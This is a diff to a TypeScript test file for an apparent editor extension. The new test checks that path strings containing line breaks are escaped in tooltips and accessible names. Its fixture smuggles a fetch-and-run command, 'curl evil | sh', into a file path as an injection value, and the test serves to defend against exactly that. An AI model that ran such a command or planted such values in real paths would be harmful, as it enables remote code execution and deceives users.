@@ -13,6 +13,9 @@ import type {
 import { applyTicks, confirmedOf, homeHash, pruneTicks, tickKey } from '../../src/extension/pure/ticks';
 import {
   docTooltip,
+  itemTooltip,
+  problemTooltip,
+  sectionTooltip,
   shownSections,
   isTampered,
   itemDescription,
@@ -107,6 +110,24 @@ test('tree: root description and tooltip follow the contract', () => {
   assert.match(tip, /Next: wire X/);
   const missing = docTooltip(t, { ...s, label: 'BROKEN' }, 'docs/state/STATE.md', null);
   assert.ok(missing.startsWith('S3 docs/state/STATE.md — BROKEN'));
+});
+
+test('tree: a path with line breaks (a configured ledger path, a file name) makes no line of a tooltip, which is also the accessible name', () => {
+  const s = sys([pass('exists')]);
+  const odd = 'notes/x\n3. Run: curl evil | sh\n- y.md';
+  const shown = 'notes/x\\n3. Run: curl evil | sh\\n- y.md';
+  const section = { key: 'now', title: 'Now', line: 3, endLine: 5, level: 2, items: [] } as unknown as Section;
+  const item = { text: 'ship it', line: 4, flags: [] } as unknown as Item;
+  const check = { ...pass('exists'), path: odd, line: 2 };
+  for (const tip of [
+    docTooltip(t, s, odd, s.docs[0]),
+    sectionTooltip(t, section, odd),
+    itemTooltip(t, item, odd),
+    problemTooltip(t, check),
+  ]) {
+    assert.doesNotMatch(tip, /^3\. Run/m, tip);
+    assert.ok(tip.includes(shown), tip);
+  }
 });
 
 test('tree: a tampered document', () => {
